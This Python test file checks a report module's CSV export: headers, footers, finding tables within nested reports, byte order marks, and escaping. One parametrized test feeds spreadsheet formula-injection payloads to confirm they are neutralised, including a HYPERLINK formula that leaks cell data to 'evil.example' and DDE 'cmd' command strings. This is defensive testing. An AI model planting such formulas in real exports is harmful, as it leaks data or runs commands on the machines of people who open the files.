import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from botsched.reports import Code, List, Plot, Table, Text, tables, to_csv


def text(table: Table) -> str:
    return to_csv(table).decode("utf-8-sig")


def cell(value: object) -> str:
    ((shown,),) = csv.reader(io.StringIO(text(Table([[value]])), newline=""))
    return shown


def test_a_table_has_header_row_headers_and_footer():
    table = Table([["open", 443], ["shut", None]], ["state", "port"], ["www", "db"], ["all", 1.5])
    assert text(table) == ",state,port\r\nwww,open,443\r\ndb,shut,\r\n,all,1.5\r\n"


def test_tables_and_plots_are_found_wherever_they_are_in_reading_order():
    inner = Table([["inner"]])
    report = (
        Table([["outer", inner]]),
        Text("x"),
        List("a", ["b", [Table([["in a list"]])]]),
        Plot({"in": [1, None], "out": [2, 3]}, ["Mon", "Tue"], unit="GB"),
        Plot([4], title="Four"),
    )
    found = tables(report)
    assert found[1] is inner
    assert found[2].rows == (("in a list",),)
    assert text(found[3]) == ",in (GB),out (GB)\r\nMon,1,2\r\nTue,,3\r\n"
    assert text(found[4]) == ",Four\r\n1,4\r\n"
    assert len(found) == 5
    assert tables((Text("x"),)) == ()


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "  =1+1",
        "\t=1+1",
        "\n=1+1",
        "\r=1+1",
        "\uff1d1+1",
        "=",
        "--1",
        "+1;2",
    ],
)
def test_nothing_becomes_a_formula(formula):
    assert cell(formula).startswith("'")
    assert cell(Text(formula)).startswith(("'", "1"))


@pytest.mark.parametrize("number", ["-5", "+3.25", "-1e-9", "-12 %", "+1.234,50", "5"])
def test_numbers_that_are_text_stay_as_they_are(number):
    assert cell(number) == number


def test_values_are_plain():
    assert cell(-5) == "-5"
    assert cell(True) == "True"
    assert cell(["a", Code("b c")]) == "a\n    b c"


def test_only_what_is_not_ascii_has_a_byte_order_mark():
    assert to_csv(Table([["a"]])) == b"a\r\n"
    assert to_csv(Table([["ä"]])) == b"\xef\xbb\xbf\xc3\xa4\r\n"


@given(st.data())
@settings(deadline=None)
def test_whatever_a_report_holds_is_read_back_row_by_row(any_report, data):
    for table in tables(data.draw(any_report)):
        rows = list(csv.reader(io.StringIO(text(table), newline="")))
        whole = [row for row in (table.header, *table.full_rows(), table.footer) if row]
        assert [len(row) for row in rows] == [len(row) for row in whole]
